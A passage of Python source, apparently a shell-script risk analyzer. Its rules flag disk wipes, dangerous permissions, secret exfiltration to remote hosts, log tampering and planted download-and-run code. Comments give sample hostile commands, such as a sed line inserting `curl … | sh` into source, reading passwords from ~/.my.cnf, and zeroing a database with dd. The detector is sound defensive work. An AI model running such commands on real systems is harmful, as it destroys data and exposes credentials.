                    self._add("shell.delete", RiskLevel.LOW, Category.FILESYSTEM,
                              f"find -delete removes the empty folders under {root.replace(HOLE, '…')}",
                              node)  # fmt: skip
                elif junk:
                    self._delete(posixpath.join(root, patterns[0]), node, recursive=False, via="find -delete")
                else:
                    # (`find /var/backups -name 'app-*.sql.gz' -mtime +14 -delete` after writing `app-$(date).sql.gz`
                    # there: this script's own old dumps rotated)
                    own = aged and bool(patterns) and all(
                        any(posixpath.dirname(c) == root.rstrip("/") and fnmatch.fnmatch(posixpath.basename(c), p)
                            for c in self._created)
                        for p in patterns
                    )  # fmt: skip
                    before = len(self.findings)
                    # (`-mtime +30`: only what is past an age, not a window of recent files)
                    expired = any(a in ("-mtime", "-ctime") and before_delete[k + 1].startswith("+")
                                  for k, a in enumerate(before_delete[:-1]))  # fmt: skip
                    self._delete(root, node, recursive=True, via="find -delete", filtered=filtered, aged=aged,
                                 expired=expired, own_rotation=own)  # fmt: skip
                    if aged and grouped and patterns and all(_GENERATED_NAME.search(p) for p in patterns):
                        # `-name '*.thumb.jpg' -mtime +60`: old thumbnails, caches or temporary files (made again)
                        self._cap(before, RiskLevel.MEDIUM)
        j = 0
        while j < len(expr):
            if expr[j] in ("-exec", "-execdir", "-ok", "-okdir"):
                end = j + 1
                while end < len(expr) and expr[end] not in (";", "\\;", "+"):
                    end += 1
                sub = expr[j + 1 : end]
                # `-name '*.pub'` alone (not negated, no alternative): the files are known by their names
                named = (
                    len(patterns) == 1
                    and not any(a in ("!", "-not", "-o", "-or") for a in expr)
                    and "/" not in patterns[0]
                    and any(a in ("-name", "-iname") for a in expr)
                )
                for root in roots:
                    placeholder = root.rstrip("/") + "/" + (patterns[0].replace("*", HOLE) if named else HOLE)
                    argv = [placeholder if a == "{}" else a.replace("{}", placeholder) for a in sub]
                    if argv:
                        before = len(self.findings)
                        mass, self._mass = self._mass, True
                        try:
                            self._argv(argv, node, _Flow(), [])
                        finally:
                            self._mass = mass
                        if filtered:
                            deletes = W.base(argv[0]) in ("rm", "unlink")
                            level = paths.filtered_delete_level(paths.classify(root), RiskLevel.HIGH, aged=aged)
                            self._cap(before, level if deletes else RiskLevel.HIGH)
                j = end
            j += 1

    def _cap(self, start: int, level: RiskLevel) -> None:
        """Lower findings added since ``start`` to ``level`` (a filter narrows what they touch)."""
        for i in range(start, len(self.findings)):
            f = self.findings[i]
            if f.level > level:
                self.findings[i] = Finding(
                    f.rule_id, level, f.message, f.category, f.line, f.column, f.evidence, f.analyzer
                )

    def _rule_bmaptool(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``bmaptool copy IMAGE DEVICE``: writes the whole device, as dd does."""
        operands = W.options(args, frozenset({"--bmap", "--gpg-signature"}))[1]
        if operands[:1] == ["copy"] and len(operands) >= 3:
            self._write(paths.classify(operands[-1]), node, via="bmaptool")

    def _rule_dd(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if any(a.startswith("count=") and HOLE in a for a in args):
            self._rule_fill(name, args, node, flow)  # `count=$(df --output=avail …)`: the disk's free space
        options = dict(a.split("=", 1) for a in args if "=" in a)
        block, count = W.size(options.get("bs", "512")), W.size(options.get("count", "0"))
        target = paths.classify(options.get("of", "/dev/stdout"))
        if (
            options.get("if") in T.ENDLESS_DEVICES
            and "count" not in options
            and target.kind not in (paths.PathKind.NULL, paths.PathKind.DEVICE)
        ):
            self._add(
                "shell.disk-fill",
                RiskLevel.HIGH,
                Category.RESOURCE,
                f"dd copies an endless device into {paths.describe(target)} with no count (fills the disk)",
                node,
            )
        if (
            options.get("if") in T.ENDLESS_DEVICES
            and "notrunc" in options.get("conv", "")
            and target.kind not in (paths.PathKind.NULL, paths.PathKind.DEVICE, paths.PathKind.TEMP)
        ):
            # `dd if=/dev/zero of=app.db bs=1M count=16 conv=notrunc`: the file's first blocks zeroed where it lies
            level = RiskLevel.MEDIUM if target.kind in _OWN_KINDS else RiskLevel.HIGH
            self._add("shell.delete", level, Category.FILESYSTEM,
                      f"dd overwrites {paths.describe(target)} in place (its content is destroyed)", node)  # fmt: skip
        endless = bool(self._loops) and self._loops[-1].endless and not self._loops[-1].paced
        if endless and "of" in options and target.kind not in (paths.PathKind.NULL, paths.PathKind.DEVICE):
            self._add(
                "shell.disk-fill",
                RiskLevel.HIGH,
                Category.RESOURCE,
                f"dd writes to {paths.describe(target)} in an endless loop (fills the disk)",
                node,
            )
        for loop in self._loops:
            count = count * loop.count if count and loop.count else count  # `for n in $(seq 64); do dd …; done`
        if block and count and block * count >= T.DISK_FILL:
            self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE, f"dd writes {block * count:,} bytes", node)
        for arg in args:
            if arg.startswith("of="):
                info = paths.classify(arg[3:])
                # (`dd if=/dev/zero of=/swapfile bs=1M count=2048`: a new swap file, made where swap files go)
                self._write(info, node, via="dd", cap=RiskLevel.MEDIUM if _SWAP_FILE.match(arg[3:]) else None)
                if info.kind is not paths.PathKind.DEVICE:
                    self._created.add(arg[3:])  # a test file dd writes (a throughput check), removed after
            elif arg.startswith("if="):
                info = paths.classify(arg[3:])
                if info.kind is paths.PathKind.DEVICE:
                    # a card or a stick (`/dev/sdb`, `/dev/mmcblk0`) imaged into a file here: a copy of one's
                    # own medium; the machine's own disk, or one sent anywhere, holds everyone's secrets
                    into = [paths.classify(a[3:]).kind for a in args if a.startswith("of=")]
                    imaged = bool(into) and into[0] in (paths.PathKind.HOME, paths.PathKind.RELATIVE,
                                                        paths.PathKind.EXTERNAL)  # fmt: skip
                    removable = _REMOVABLE_DEVICE.fullmatch(arg[3:]) is not None
                    self._add(
                        "shell.device-read",
                        RiskLevel.MEDIUM if imaged and removable else RiskLevel.HIGH,
                        Category.EXFILTRATION,
                        f"dd reads the raw device {arg[3:]}",
                        node,
                    )
                    flow.secret = True
                elif info.secret:
                    self._read(info, node, flow, "dd")

    def _disk_tool(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        # (`-n` is a dry run for wipefs and the ext family; mkfs.vfat's `-n` names the volume, mkfs.xfs's sets options)
        other_family = name == "mkfs" and re.fullmatch(r"mkfs\.(?!ext[234]$).+", self._formatter) is not None
        if name in ("wipefs", "sfdisk", "mkfs", "mke2fs") and any(
            a == "--no-act" or (a == "-n" and not other_family)
            or (name == "sfdisk" and a in ("-l", "--list", "-d", "--dump")) for a in args
        ):
            return  # dry run / listing: nothing is written
        if name == "cryptsetup":
            verb = next((a for a in args if not a.startswith("-")), "")
            if verb == "luksDump" and any(a in ("--dump-volume-key", "--dump-master-key") for a in args):
                flow.secret = True  # the volume key itself: whoever has it decrypts the disk, passphrase or not
            if verb in ("open", "luksOpen", "plainOpen") and "--test-passphrase" not in args:
                operands = [a for a in W.options(args, _CRYPTSETUP_VALUED)[1] if a != verb]
                own = len(operands) >= 2 and paths.classify(operands[0]).kind in (
                    paths.PathKind.RELATIVE, paths.PathKind.WORKDIR, paths.PathKind.TEMP)
                if own:
                    self._made_volumes.add(f"/dev/mapper/{operands[1]}")  # a test image's mapping, formatted next
            if verb not in _CRYPTSETUP_WRITES:
                return  # opening, closing, listing, backing up a header: nothing on the disk is rewritten
        if _lists_disks(name, args) or reports_state([name, *args]):
            return
        if name == "nvme" and (args[:1] or [""])[0] not in _NVME_WRITES:
            return  # `nvme list`, `nvme smart-log`: the drives' state, read
        devices = [a for a in args if paths.classify(a).kind is paths.PathKind.DEVICE]
        if devices and all(d in self._made_volumes for d in devices):
            return  # `mkfs.ext4 /dev/mapper/testvol`: the mapping of an image file this script made
        if name in ("hdparm", "badblocks") and not any(a.startswith(("--security", "-w")) for a in args):
            return
        targets = [a for a in W.options(args)[1] if not a.isdigit()]
        if name == "cryptsetup":
            targets = [a for a in W.options(args, _CRYPTSETUP_VALUED)[1] if a not in _CRYPTSETUP_WRITES][:1]
        if name == "diskutil":
            # diskutil names disks without /dev (disk2, disk2s1) and its verbs are not files
            devices += [a for a in args if re.fullmatch(r"r?disk\d+(s\d+)?", a)]
            targets = []
        if (
            targets
            and not devices
            and all(
                paths.classify(t).kind in (paths.PathKind.RELATIVE, paths.PathKind.WORKDIR, paths.PathKind.TEMP)
                or (_DISK_IMAGE.search(t) is not None and not t.startswith("/dev/"))
                for t in targets
            )
        ):
            return  # an image file in the project or /tmp (a test fixture), not a disk
        if name in ("mkswap", "swapon") and targets and not devices and all(_SWAP_FILE.match(t) for t in targets):
            return  # a swap file set up (a regular file, not a disk)
        level = RiskLevel.CRITICAL if devices or name in ("mkfs", "wipefs", "mkswap") else RiskLevel.HIGH
        self._add(
            "shell.disk-format",
            level,
            Category.FILESYSTEM,
            f"{name} rewrites a disk or partition{': ' + devices[0] if devices else ''}",
            node,
        )

    def _rule_chmod(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        _, operands = W.options([a for a in args if not W.is_symbolic_mode(a)])
        symbolic = [a for a in args if W.is_symbolic_mode(a)]
        if name == "chmod":
            mode = symbolic[0] if symbolic else (operands.pop(0) if operands else "")
            world, setuid, opens = W.mode_bits(mode)
            others_read = not (mode.isdigit() and not int(mode, 8) & 0o004)
            targets = operands
            for target in targets:
                info = paths.classify(target)
                downloaded = target in self.downloaded or posixpath.basename(target) in self.downloaded
                if downloaded and ("x" in mode or (mode.isdigit() and int(mode[-3:] or "0", 8) & 0o111)):
                    self._add(
                        "shell.download-exec",
                        RiskLevel.MEDIUM,  # running it is what is CRITICAL; installing a tool is routine
                        Category.DYNAMIC_CODE,
                        "makes a downloaded file executable",
                        node,
                    )
                # (a site's own folder, `/var/www/timetable`, is its application's tree too)
                app = paths.application_tree(info.path) or re.fullmatch(r"/var/www/[\w.-]+/?", info.path) is not None
                setgid_dir = (
                    (mode.isdigit() and int(mode, 8) & 0o6000 == 0o2000) or mode in ("g+s", "g+rws", "g+rwxs")
                ) and (
                    target.rstrip("/") in self.made_dirs
                    or app  # shared group ownership of an app's folders
                    # (or of a data share's folders: `find /gpfs/…/shared -type d -exec chmod g+s {} +`)
                    or (info.kind is paths.PathKind.EXTERNAL and "." not in posixpath.basename(target)
                        and not re.search(r"/s?bin(?:/|$)|/lib", target))
                )  # fmt: skip
                level = paths.mode_level(
                    info, world_writable=world, setuid=setuid and not setgid_dir, opens_secret=opens,
                    others_read=others_read,
                )  # fmt: skip
                recursive = self._mass or any(
                    a in ("-R", "--recursive") or (a.startswith("-") and "R" in a) for a in args
                )
                top = info.kind in (paths.PathKind.ROOT, paths.PathKind.SYSTEM_TOP, paths.PathKind.HOME_TOP)
                # `find /etc/keys.d -name '*.key' -exec chmod 400 {} +`: files picked by name, closed to all but
                # their owner (a tree's permissions are not rewritten)
                picked = HOLE in posixpath.basename(target) or "*" in posixpath.basename(target) or self._mass
                tightened = picked and mode.isdigit() and bool(int(mode, 8) & 0o400) and not int(mode, 8) & 0o7007
                # `find /etc/nebula -name '*.crt' -exec chmod 644 {} +`: files of one kind given the usual mode
                usual = (picked and posixpath.basename(target) not in ("*", HOLE) and mode.isdigit()
                         and bool(int(mode, 8) & 0o400) and not int(mode, 8) & 0o7022)
                if recursive and (top or (info.kind is paths.PathKind.SYSTEM and not (tightened or usual))):
                    # any mode applied to a whole system tree breaks it (setuid bits, key permissions...)
                    level = max(level, RiskLevel.CRITICAL if top else RiskLevel.HIGH)
                named_home = info.kind is paths.PathKind.HOME and target.startswith("/home/")
                if recursive and world and (info.kind is paths.PathKind.EXTERNAL or named_home):
                    # a whole shared tree, or a service account's (`/home/frappe/…/sites`), writable by everyone
                    level = max(level, RiskLevel.HIGH)
                if (recursive or self._mass) and world and _EVERY_USERS_HOME.match(target):
                    level = max(level, RiskLevel.HIGH)  # `/home/*/public_html`: every user's files writable by all
                if app and not world and not (setuid and not setgid_dir):
                    level = min(level, RiskLevel.MEDIUM)  # the permissions of an application's own folders
                if level > RiskLevel.SAFE:
                    self._add("shell.chmod", level, Category.PRIVILEGE, f"chmod {mode} on {paths.describe(info)}", node)
        else:
            owner = operands.pop(0) if operands and name != "chattr" else ""
            operands = [o for o in operands if not o.startswith(("+", "="))]  # chattr +i FILE
            recursive = self._mass or any(a == "-R" or (a.startswith("-") and "R" in a) for a in args)
            for target in operands:
                info = paths.classify(target)
                if name == "setfacl" and _OTHERS_WRITE_ACL.search(owner):
                    # `setfacl -R -m o::rwx`: what `chmod -R o+rwx` does, said as an ACL entry
                    level = paths.mode_level(info, world_writable=True, setuid=False, opens_secret=True)
                    if recursive and info.kind is paths.PathKind.EXTERNAL:
                        level = max(level, RiskLevel.HIGH)  # a whole shared tree writable by everyone
                    if level > RiskLevel.SAFE:
                        self._add("shell.chmod", level, Category.PRIVILEGE,
                                  f"setfacl {owner} gives everyone write access to {paths.describe(info)}",
                                  node)  # fmt: skip
                    continue
                system = info.kind in (paths.PathKind.ROOT, paths.PathKind.SYSTEM_TOP, paths.PathKind.SYSTEM)
                if system or info.privilege or info.kind is paths.PathKind.HOME_TOP:
                    # a container's own top-level folder (/app, /data) handed to its service account is set-up
                    own_folder = (
                        (info.kind is paths.PathKind.SYSTEM_TOP and not paths.operating_system_tree(info))
                        or paths.application_tree(info.path)
                        or paths.service_folder(info.path, owner)  # `chown -R orders: /var/log/orders-api`
                        or paths.app_environment_file(info.path)  # an application's secret handed to its account
                        # a site's folder under /var/www, or an application's own under /var (`/var/teampass_sk`),
                        # handed to the web server's account
                        or ((re.fullmatch(r"/var/www/[\w.-]+/?", info.path) is not None
                             or paths.application_var_folder(info.path))
                            and owner.split(":")[0] in ("www-data", "nginx", "apache", "http", "caddy"))
                        # a system file given to root (`chown root:root /etc/filebeat/certs/client.key`): taken away
                        # from everyone else, not handed to someone
                        or (info.kind is paths.PathKind.SYSTEM and _TO_ROOT.fullmatch(owner) is not None)
                        # a container volume's data handed to the user its image runs as
                        or _VOLUME_DATA.match(info.path) is not None
                    )
                    # `setfacl -m u:filebeat:r /var/log/auth.log`: one account allowed to read (a log shipper's)
                    read_only = (
                        name == "setfacl"
                        and re.fullmatch(r"(?:[ug]|user|group):[\w.-]+:r-?x?-?", owner) is not None
                        and not info.secret
                    )
                    self._add(
                        "shell.chown",
                        RiskLevel.MEDIUM if (own_folder or read_only) and not info.privilege else RiskLevel.HIGH,
                        Category.PRIVILEGE,
                        f"{name} {owner} on {paths.describe(info)}",
                        node,
                    )

    def _rule_copy(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        flags, operands = W.options(args, W.VALUED_OPTIONS.get(name, frozenset()))
        if name == "rsync" and len(operands) > 1 and any(f.startswith("--delete") for f in flags):
            # everything in the destination that the source lacks goes: mirroring into a backup
            # directory is what --delete is for; mirroring onto the home or the system wipes it
            kind = paths.classify(operands[-1]).kind
            # (`rsync -a --delete dist/ /var/www/app/static/`: a build's output published into its site's folder)
            # (into the application's folder, or the folder itself: `rsync --delete dist/ /var/www/booking/`)
            published = paths.application_tree(operands[-1].rstrip("/") + "/.") and self._deployed(operands[:-1])
            if published and kind is paths.PathKind.SYSTEM:
                self._add("shell.delete", RiskLevel.MEDIUM, Category.FILESYSTEM,
                          f"rsync --delete replaces {operands[-1]} with a build's output", node)  # fmt: skip
            elif kind in (paths.PathKind.ROOT, paths.PathKind.SYSTEM_TOP, paths.PathKind.HOME_TOP,
                          paths.PathKind.SYSTEM):  # fmt: skip
                self._delete(operands[-1], node, recursive=True, via="rsync --delete")
            elif any((src.rstrip("/") in self.made_dirs or fresh_temporary(src)) and not any(
                f.startswith(src.rstrip("/") + "/") for f in (*self._own_files, *self._created)
            ) for src in operands[:-1]):  # (a folder made here and left empty: a dump written into it fills it)
                self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                          f"rsync --delete mirrors an empty directory onto {operands[-1]}, deleting everything there",
                          node)  # fmt: skip
            elif _MOUNTED_SHARE_ROOT.fullmatch(operands[-1]):
                # a project's folder mirrored onto the top of a mounted drive or share: everyone else's files go
                self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                          f"rsync --delete mirrors a folder onto the whole of {operands[-1]}, deleting everything "
                          "else there", node)  # fmt: skip
        if name == "rsync" and "--remove-source-files" in flags and len(operands) > 1 and W.is_remote(operands[-1]):
            precious = [s for s in operands[:-1] if re.search(r"backup|dump|snapshot|archive", s, re.IGNORECASE)]
            target_host = operands[-1].split(":", 1)[0].rsplit("@", 1)[-1].lower()
            # (archives offloaded to the organisation's own storage, a NAS or backup host of its network, is routine)
            own_storage = internal_host(target_host) or bool(
                {"internal", "corp", "lan", "intranet", "nas", "backup", "backups"} & set(target_host.split("."))
            )
            if precious and not own_storage:
                # the only local copies of the backups leave for another machine
                self._add("shell.data-destroy", RiskLevel.HIGH, Category.EXFILTRATION,
                          f"rsync --remove-source-files moves {precious[0]} to {operands[-1]} and deletes it here",
                          node)  # fmt: skip
        if name in ("mv", "cp", "install") and len(operands) > 1 and any(s in self.downloaded for s in operands[:-1]):
            # `curl -o f.part URL && mv f.part f`: the file keeps what it came with
            self.downloaded.update((operands[-1], posixpath.basename(operands[-1])))
        if name in ("ln",) and operands:
            dest = operands[-1] if len(operands) > 1 else ""
            if dest:
                info = paths.classify(dest)
                link_target = paths.classify(operands[0])
                if "s" in flags and paths.planted_link(info, link_target):
                    self._add("shell.symlink-plant", RiskLevel.HIGH, Category.PRIVILEGE,
                              f"plants a link to {paths.describe(link_target)} in the shared temporary directory",
                              node)  # fmt: skip
                elif info.history and link_target.kind is paths.PathKind.NULL:
                    self._add(
                        "shell.history-tamper",
                        RiskLevel.HIGH,
                        Category.PERSISTENCE,
                        "links shell history to /dev/null",
                        node,
                    )
                elif paths.write_level(info) >= RiskLevel.HIGH:
                    # linked to the user's own copy in their home (not a download or a clone): what they wrote
                    own = (
                        "s" in flags
                        and info.persistence
                        and link_target.kind is paths.PathKind.HOME
                        and operands[0] not in self.downloaded
                        and not self._in_clone(operands[0])
                    ) or paths.enables_available(operands[0], dest)
                    # a relative link's target is read from the link's own folder (../../scripts/hook.sh)
                    target = operands[0] if operands[0].startswith(("/", "~")) else posixpath.normpath(
                        posixpath.join(posixpath.dirname(dest), operands[0]))  # fmt: skip
                    own = own or self._project_file_installed([target], info)
                    self._write(info, node, via=name, cap=RiskLevel.MEDIUM if own else None)
            return
        if name == "tee":
            content = self._heredoc_text if self._heredoc_text is not None else self._stdin_text
            for target in operands:
                info = paths.classify(target)
                cap = self._script_content(info, content, node)
                self._write(info, node, op=">>" if "a" in flags else ">", via="tee", cap=cap)
            return
        if name in ("touch", "truncate", "sed", "perl", "sponge", "install", "mkdir"):
            if name == "touch":
                self._timestomp(args, node)
            if name == "sed" and any(a == "-i" or a.startswith(("-i", "--in-place")) for a in args):
                self._edited_in_place.update(operands[1:] if not W.option_values(args, "-e", "--expression")
                                             else operands)  # fmt: skip
            if name == "sed":
                for script in [*W.option_values(args, "-e", "--expression"), *operands[:1]]:
                    # GNU sed's `e` flag runs the pattern space (after the substitution) as a command
                    executed = _SED_EXECUTE.match(script)
                    if executed:
                        self._nested(executed.group("replacement"), "shell", node, "sed s///e", keep=RiskLevel.MEDIUM)
                        sources = operands[1:] if script in operands[:1] else operands
                        if any(f in self.downloaded or posixpath.basename(f) in self.downloaded for f in sources):
                            # the lines it executes are the downloaded file's
                            self._runs_download("sed s///e", next(iter(sources)), node)
                        elif re.fullmatch(r"(?:\\[1-9&]|&)+", executed.group("replacement").strip()) and (
                            any(f.startswith("/var/log/") or "log" in posixpath.basename(f) for f in sources)
                            or self._stdin_remote
                        ):
                            # `s/.*"cmd":"\([^"]*\)".*/\1/e` over a request log: whoever sent the request chose it
                            self._add("shell.remote-code", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                                      "sed s///e runs text taken from a log (others wrote it) as commands",
                                      node)  # fmt: skip
            if name == "sed" and ("i" in flags or "--in-place" in flags):
                self._auth_backdoor(name, args, node)
                # `sed -i '1i //go:generate sh -c "curl … | sh"'`: a command planted in a file a tool runs
                makefile = any(posixpath.basename(o) in ("Makefile", "makefile", "GNUmakefile") or o.endswith(".mk")
                               for o in operands[1:])  # fmt: skip
                for script in [*W.option_values(args, "-e", "--expression"), *operands[:1]]:
                    # a Makefile recipe spells the shell's `$` as `$$`
                    self._shipped_payloads(script.replace("$$", "$") if makefile else script, node,
                                           "text sed writes into a file")  # fmt: skip
                    inserted = _sed_inserted_text(script) if makefile else None
                    for recipe in _make_recipes(inserted or "")[:4]:
                        self._nested(recipe, "shell", node, "a Makefile recipe sed writes", keep=RiskLevel.HIGH)
                scripts = [*W.option_values(args, "-e", "--expression"), *operands[:1]]
                code_file = any(posixpath.splitext(o)[1].lower() in T.CODE_SUFFIXES for o in operands[1:])
                if code_file and any(map(_loads_remote_code, scripts)):
                    self._add("shell.persistence", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                              "sed plants code that downloads and runs code into a program's source (it runs "
                              "whenever the program does)", node)  # fmt: skip
                if any(logins_to_trust(script) for script in scripts):
                    self._add("shell.privilege", RiskLevel.HIGH, Category.PRIVILEGE,
                              "sed switches the database's logins to trust (no password at all)", node)  # fmt: skip
                if any(_DELETES_LOGIN_SETTING.match(script) for script in scripts):
                    self._add("shell.weakened-settings", RiskLevel.HIGH, Category.PRIVILEGE,
                              "sed deletes a service's login settings (anyone reaching it gets in)", node)  # fmt: skip
                if any(_PAYEE_ACCOUNT.search(script) for script in scripts) and not all(
                    paths.classify(t).kind in (paths.PathKind.RELATIVE, paths.PathKind.TEMP) for t in operands[1:]
                ):
                    self._add("shell.money", RiskLevel.HIGH, Category.FILESYSTEM,
                              "sed rewrites the payee accounts of payment files (the money goes elsewhere)",
                              node)  # fmt: skip
                if any("0.0.0.0/0" in a or "0.0.0.0\\/0" in a or "::/0" in a for a in args):
                    self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                              "sed rewrites configuration to allow every address (0.0.0.0/0)", node)  # fmt: skip
                if any(posixpath.basename(a) in T.LOCKFILES for a in args) and re.search(
                    r"resolved|integrity|https?://|checksum|sha\d+", " ".join(args)
                ):
                    self._add("shell.supply-chain", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                              "sed rewrites a lockfile's sources or hashes (installs then fetch other code)",
                              node)  # fmt: skip
            if name == "sed" and "i" not in flags and "--in-place" not in flags:
                # `sed -n 's/^password=//p' ~/.my.cnf`: without -i, sed prints what it reads
                scripted = bool(W.option_values(args, "-e", "--expression", "-f", "--file"))
                for target in operands if scripted else operands[1:]:
                    info = paths.classify(target)
                    if info.secret or info.history or target in self.staged:
                        self._read(info, node, flow, name)
                return
            targets = operands[1:] if name == "sed" else operands
            # `install -d -o app -m 0750 /var/lib/app`: directories made, as mkdir makes them
            directories = name == "mkdir" or (name == "install" and ("d" in flags or "--directory" in flags))
            if name == "install" and not directories:
                targets = operands[-1:]
                mode = next(
                    (
                        args[i + 1] if a in ("-m", "--mode") and i + 1 < len(args) else a.split("=", 1)[1]
                        for i, a in enumerate(args)
                        if a in ("-m", "--mode") or a.startswith("--mode=")
                    ),
                    "",
                )
                if mode and targets:
                    # install -m 4755 SRC DEST is cp + chmod: a setuid or world-writable copy
                    world, setuid, opens = W.mode_bits(mode)
                    info = paths.classify(targets[0])
                    others_read = not (mode.isdigit() and not int(mode, 8) & 0o004)
                    level = paths.mode_level(
                        info, world_writable=world, setuid=setuid, opens_secret=opens, others_read=others_read
                    )
                    if level > RiskLevel.SAFE:
                        self._add(
                            "shell.chmod", level, Category.PRIVILEGE, f"install -m {mode} {paths.describe(info)}", node
                        )
            # `sed -i 's/^plugins=(.*)/plugins=(git fzf)/' ~/.zshrc`: what the substitutions write is known
            scripts = [*W.option_values(args, "-e", "--expression"), *operands[:1]] if name == "sed" else []
            replacements = [m.group("replacement") for script in scripts if (m := _SED_SUBSTITUTION.match(script))]
            for target in targets:
                info = paths.classify(target)
                if directories and not info.persistence:
                    continue  # creating a directory only matters where things get auto-started
                weakness = next(filter(None, (web_server_weakness(target, r) for r in replacements)), None)
                if weakness is None and web_config(target) and any(protection_deleted(s) for s in scripts):
                    weakness = ("deletes a login or an access check from a web server's configuration",
                                Category.PRIVILEGE)  # fmt: skip
                if weakness:
                    self._add("shell.persistence", RiskLevel.HIGH, weakness[1], weakness[0], node)
                quiet = bool(replacements) and all(harmless_content(info, r) for r in replacements)
                cap = RiskLevel.MEDIUM if quiet else None
                # `sed -i '/ bob@laptop$/d' ~deploy/.ssh/authorized_keys`: a departed user's key taken out
                removes_keys = name == "sed" and bool(scripts) and all(_SED_LINE_DELETE.fullmatch(s) for s in scripts)
                if removes_keys and posixpath.basename(target) in ("authorized_keys", "authorized_keys2"):
                    cap = RiskLevel.MEDIUM
                if removes_keys and target.startswith("/var/log/") and not info.history:
                    # `sed -i '/203.0.113.77/d' /var/log/kamailio.log`: the lines that name something, erased
                    self._add("shell.history-tamper", RiskLevel.HIGH, Category.PERSISTENCE,
                              f"sed deletes lines from a log ({target.replace(HOLE, '…')}): the record of what "
                              "happened", node)  # fmt: skip
                if name == "install" and self._project_file_installed(operands[:-1], info):
                    cap = RiskLevel.MEDIUM
                # a new account's public key (from the repository, or the ticket it came with), installed for the
                # account this script made (not one downloaded: whoever serves it holds the account)
                owner = re.match(r"/home/([\w.-]+)/\.ssh/authorized_keys$", target)
                if name == "install" and owner and owner[1] in self._new_accounts and all(
                    s.endswith(".pub") and s not in self.downloaded and "://" not in s for s in operands[:-1]
                ):
                    cap = RiskLevel.MEDIUM
                if name == "install" and not directories:
                    cap = cap or self._copied_text_cap(operands[:-1], info, node)
                    self._installs_download(name, operands[:-1], info, node)
                self._write(info, node, via=name, cap=cap)
            return
        if len(operands) < 2:
            return
        *sources, dest = operands
        remote = W.is_remote(dest) and name in ("scp", "rsync")
        host = dest.split(":", 1)[0].rsplit("@", 1)[-1] if remote else ""
        foreign = bool(re.fullmatch(r"\d+\.\d+\.\d+\.\d+", host)) or personal_host(host)
        served = not remote and bool(set(re.split(r"[/\\]", dest.lower())) & _WEB_ROOTS)
        for src in sources:
            src_info = paths.classify(src)
            if served and src_info.secret:
                # `cp .env.production public/.env`: anyone who asks the site for the file gets the secrets
                self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                          f"{name} puts {src} (secrets) in a folder the web server serves ({dest})", node)  # fmt: skip
            records = src in self._bulk_files or (paths.personal_media(src) and not private_address(host))
            # a server's data folder (`/srv/…`, `/var/lib/…`) copied to someone's home machine (dynamic DNS)
            records |= personal_host(host) and src_info.kind in (paths.PathKind.SYSTEM, paths.PathKind.EXTERNAL)
            own = private_address(host) or _INTERNAL_NAME.search(host) is not None or backup_host(host)
            if records and remote and (foreign or not own):
                # a database dump, people's files or patients' records sent to a bare address or someone's own machine
                self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                          f"{name} copies {src.replace(HOLE, '…')} (a dump, people's files or records) to {host}",
                          node)  # fmt: skip
            if remote and payment_file(src):
                test = test_money(dest + " " + (self._text(node) if node is not None else ""))
                self._add("shell.money", RiskLevel.MEDIUM if test else RiskLevel.HIGH, Category.EXFILTRATION,
                          f"{name} submits a payment file ({src}) to {host or 'a remote host'}", node)  # fmt: skip
            if src in self._settings_archives and src not in self.staged and remote and not own:
                self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                          f"{name} copies an archive of an application's settings (its passwords and keys) to {host}",
                          node)  # fmt: skip
            if src in self.staged and remote:
                self._add(
                    "shell.exfiltration",
                    RiskLevel.CRITICAL,
                    Category.EXFILTRATION,
                    f"{name} copies {src} (secret data was written to it) to a remote host",
                    node,
                )
            # (`mv ~/Downloads/sa-*.json ~/.config/tool/sa.json`: a key put in its place, still the user's alone)
            kept_home = name == "mv" and not remote and paths.keeps_data(src, dest)
            # (`cp /media/$USER/KEYS/site_ed25519 ~/.ssh/`: a key installed in the user's own key folder)
            # (`install -m 600 "$RENEWED_LINEAGE/privkey.pem" /etc/kamailio/tls/server.key`: a service's key put in
            # its TLS folder)
            installed_key = not remote and name in ("cp", "install") and (
                re.match(r"~/\.ssh(?:/|$)", dest) is not None or paths.service_tls_file(dest)
            )
            if (src_info.secret or src_info.history) and not kept_home and not installed_key:
                self._read(src_info, node, flow, name)
                if not remote:
                    self.staged.add(dest)
                if remote:
                    self._add(
                        "shell.exfiltration",
                        RiskLevel.CRITICAL,
                        Category.EXFILTRATION,
                        f"{name} copies {paths.describe(src_info)} to a remote host",
                        node,
                    )
            elif (
                remote
                and src_info.kind in (paths.PathKind.HOME_TOP, paths.PathKind.ROOT)
                and (name == "rsync" or "r" in flags or "--recursive" in flags)
            ):
                # the whole home (keys, tokens, browser profiles...) or the whole machine, sent away
                self._add(
                    "shell.exfiltration",
                    RiskLevel.HIGH,
                    Category.EXFILTRATION,
                    f"{name} copies {paths.describe(src_info)} to a remote host",
                    node,
                )
            elif remote and self._mass and src_info.kind in _BULK_KINDS:
                self._add(
                    "shell.exfiltration",
                    RiskLevel.HIGH,
                    Category.EXFILTRATION,
                    f"{name} copies every file a search finds under {paths.describe(src_info)} to a remote host",
                    node,
                )
            inside = (paths.PathKind.RELATIVE, paths.PathKind.WORKDIR)
            renamed = (src_info.kind in inside and paths.classify(dest).kind in inside) or paths.keeps_data(src, dest)
            # (a file this script made a moment ago, moved where it belongs: `mv "$f.gpg" /mnt/finance/`)
            if name == "mv" and not renamed and src not in self._created:
                level = paths.delete_level(src_info, recursive=True)
                if level >= RiskLevel.HIGH:
                    self._add(
                        "shell.delete",
                        level,
                        Category.FILESYSTEM,
                        f"mv removes {paths.describe(src_info)} from its place",
                        node,
                    )
        if not remote:
            # `cp -a /etc/fstab /etc/fstab.bak.$(date +%F)`: a backup copy beside the original changes nothing;
            # `mv hook hook.local` renames a file in its own directory (no new content there)
            backup = name == "cp" and any(dest.startswith(src) and dest != src for src in sources)
